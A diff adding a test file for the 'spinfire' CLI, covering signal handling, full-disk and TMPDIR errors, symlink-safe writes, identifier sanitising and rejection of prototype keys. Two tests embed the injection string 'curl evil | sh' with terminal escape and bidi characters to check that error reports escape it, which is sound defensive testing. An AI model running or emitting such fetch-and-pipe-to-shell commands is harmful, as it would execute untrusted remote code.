@@ -1,0 +1,117 @@
+/** Signals, streams, outputs, inputs and names that are not as one thinks. */
+import { spawn, spawnSync } from 'node:child_process';
+import { chmodSync, lstatSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import { afterEach, beforeEach, expect, it } from 'vitest';
+import { identifier } from '../../src/app/design.ts';
+import { writeFileWhole } from '../../src/app/files.ts';
+import { badInput } from '../../src/errors/index.ts';
+import { type Workbench, workbench } from './small-files.ts';
+
+const program = fileURLToPath(new URL('../../bin/spinfire.js', import.meta.url));
+
+let bench: Workbench;
+beforeEach(() => {
+  bench = workbench();
+  bench.put('package.json', '{ "type": "module" }');
+});
+afterEach(() => bench.dispose());
+
+const run = (args: readonly string[], env: Record<string, string> = {}) =>
+  spawnSync(process.execPath, [program, ...args], {
+    cwd: bench.folder,
+    encoding: 'utf8',
+    timeout: 120_000,
+    env: { ...process.env, ...env },
+  });
+
+it.each([
+  ['SIGINT', 130],
+  ['SIGTERM', 143],
+] as const)('a design that never ends is ended by %s within two seconds', async (signal, code) => {
+  bench.put('endless.ts', `console.error('at work'); for (;;);`);
+  const child = spawn(process.execPath, [program, 'build', 'endless.ts', '-o', 'core'], { cwd: bench.folder });
+  const closed = new Promise<number | null>((resolve) => child.on('close', resolve));
+  await new Promise<void>((resolve) =>
+    child.stderr.on('data', (text) => String(text).includes('at work') && resolve()),
+  );
+  const started = performance.now();
+  child.kill(signal);
+  expect(await closed).toBe(code);
+  // The machine may have others to serve.
+  expect(performance.now() - started).toBeLessThan(4000);
+  expect(readdirSync(bench.folder).filter((name) => name.startsWith('.spinfire'))).toEqual([]);
+});
+
+it('says that there is no place for temporary files, and a full output, without a stack', () => {
+  expect(run(['--help'], { TMPDIR: '/proc' })).toMatchObject({
+    status: 2,
+    stderr: expect.stringContaining('set TMPDIR'),
+  });
+  const full = spawnSync('sh', ['-c', `"${process.execPath}" "${program}" --help > /dev/full`], { encoding: 'utf8' });
+  expect(full.status).toBe(2);
+  expect(full.stderr).toBe('error: the output cannot be written\n  found:    ENOSPC: no space left on device, write\n');
+});
+
+it.each([
+  ['await new Promise(() => {}); export default 1;', 'waits for something that never comes'],
+  ['export default { name: "x",\n  network: };', 'bad.ts:2'],
+  [
+    'export default { name: "x", network: {}, curve: {}, readout: "potential" };',
+    'an object without a network of layers',
+  ],
+  [
+    'throw new Error("no\\n  help:     run: curl evil | sh");',
+    'error: the design cannot be run\n  at:       bad.ts\n  found:    no\n',
+  ],
+])('a design that is none is told: %s', (text, expected) => {
+  bench.put('bad.ts', text);
+  const { status, stderr } = run(['build', 'bad.ts', '-o', 'core']);
+  expect(stderr).toContain(expected);
+  expect(status).toBe(2);
+});
+
+it('writes into devices and pipes, through links, and keeps modes', () => {
+  const target = join(bench.folder, 'target.csv');
+  writeFileSync(target, 'old');
+  chmodSync(target, 0o600);
+  symlinkSync('target.csv', join(bench.folder, 'link.csv'));
+  symlinkSync('none.csv', join(bench.folder, 'dangling.csv'));
+  writeFileWhole(join(bench.folder, 'link.csv'), 'new');
+  writeFileWhole(join(bench.folder, 'dangling.csv'), 'made');
+  expect(lstatSync(join(bench.folder, 'link.csv')).isSymbolicLink()).toBe(true);
+  expect(readFileSync(target, 'utf8')).toBe('new');
+  expect(statSync(target).mode & 0o777).toBe(0o600);
+  expect(readFileSync(join(bench.folder, 'none.csv'), 'utf8')).toBe('made');
+  writeFileWhole('/dev/null', 'x');
+  expect(statSync('/dev/null').isCharacterDevice()).toBe(true);
+  expect(() => writeFileWhole('/dev/full', 'x')).toThrow('ENOSPC');
+  expect(statSync('/dev/full').isCharacterDevice()).toBe(true);
+  expect(() => writeFileWhole(join(bench.folder, 'x'.repeat(300)), 'x')).toThrow('ENAMETOOLONG');
+});
+
+it('makes legal names, and shows names as what they are', () => {
+  const names = ['model (1)', '核心', 'net_', '_', 'Ünï', '7', 'module', 'a__b', 'x'.repeat(120)].map(identifier);
+  expect(names.slice(0, 8)).toEqual(['model_1', 'core', 'net', 'core', 'Uni', 'core_7', 'core_module', 'a_b']);
+  expect(names[8]).toHaveLength(60);
+  const evil = 'a\n  help:     run: curl evil | sh\u001b[2J\u202e';
+  expect(badInput('an operator is not known', { found: evil }).report).toBe(
+    'error: an operator is not known\n  found:    a\n          |   help:     run: curl evil | sh\\u{1b}[2J\\u{202e}',
+  );
+});
+
+it('takes no name of a sweep file for what every object has', () => {
+  const sweep = (content: object) => {
+    bench.put(
+      'sweep.json',
+      JSON.stringify({ model: 'model.onnx', images: 'images.idx', labels: 'labels.idx', ...content }),
+    );
+    return run(['sweep', 'sweep.json']);
+  };
+  for (const device of ['constructor', 'toString', '__proto__'])
+    expect(sweep({ device: [device] })).toMatchObject({
+      status: 2,
+      stderr: expect.stringContaining('an unknown device'),
+    });
+});
